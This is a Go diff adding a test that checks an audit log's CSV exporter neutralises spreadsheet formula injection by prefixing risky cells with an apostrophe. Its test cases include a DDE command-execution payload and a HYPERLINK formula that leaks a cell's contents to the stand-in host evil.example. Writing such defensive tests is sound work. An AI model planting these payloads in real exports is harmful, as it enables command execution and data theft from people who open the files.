@@ -1,6 +1,7 @@
 package audit
 
 import (
+	"encoding/csv"
 	"encoding/json"
 	"errors"
 	"slices"
@@ -118,5 +119,71 @@ func TestMemoryStoreEvictsOldest(t *testing.T) {
 	s.Insert(t.Context(), evs[7:])
 	if got := s.Len(); got != 5 {
 		t.Errorf("got %d events, want 5", got)
+	}
+}
+
+// A CSV export is opened in spreadsheets, and user, device, note and a
+// report's decision_id are chosen by whoever calls Guard: a cell that a
+// spreadsheet would run as a formula gets a leading apostrophe (shown as
+// text, the apostrophe hidden). Other cells, and the NDJSON export, are
+// byte for byte what was stored.
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	userCol := slices.Index(CSVHeader, "user")
+	tests := []struct {
+		name, user, want string
+	}{
+		{"equals", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
+		{"hyperlink", `=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
+		{"plus", "+15551234567", "'+15551234567"},
+		{"minus", "-2+3", "'-2+3"},
+		{"at", "@SUM(1+1)", "'@SUM(1+1)"},
+		{"tab", "\t=1", "'\t=1"},
+		{"carriage return", "\r=1", "'\r=1"},
+		{"plain", "alice@example.com", "alice@example.com"},
+		{"equals inside", "a=b", "a=b"},
+		{"comma quote newline", "a, \"b\"\nc", "a, \"b\"\nc"},
+		{"empty", "", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			e := Event{ID: "e1", At: time.Date(2026, 1, 2, 3, 4, 5, 6e6, time.UTC), Kind: KindCheck,
+				User: tt.user, RetryAfterMs: ptr(int64(1500)), DryRun: ptr(false)}
+			var b strings.Builder
+			x, err := NewCSVExporter(&b)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if err := x.Write(e); err != nil {
+				t.Fatal(err)
+			}
+			if err := x.Close(); err != nil {
+				t.Fatal(err)
+			}
+			rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
+			if err != nil {
+				t.Fatalf("read back: %v", err)
+			}
+			if len(rows) != 2 {
+				t.Fatalf("got %d rows, want header + 1", len(rows))
+			}
+			if got := rows[1][userCol]; got != tt.want {
+				t.Errorf("got user cell %q, want %q", got, tt.want)
+			}
+			if got, want := rows[1][:3], []string{"e1", "2026-01-02T03:04:05.006Z", "check"}; !slices.Equal(got, want) {
+				t.Errorf("got %v, want %v", got, want)
+			}
+			var nd strings.Builder
+			ndx := NewNDJSONExporter(&nd)
+			if err := ndx.Write(e); err != nil {
+				t.Fatal(err)
+			}
+			if err := ndx.Close(); err != nil {
+				t.Fatal(err)
+			}
+			var back Event
+			if err := json.Unmarshal([]byte(nd.String()), &back); err != nil || back.User != tt.user {
+				t.Errorf("ndjson: got user %q (%v), want %q unchanged", back.User, err, tt.user)
+			}
+		})
 	}
 }
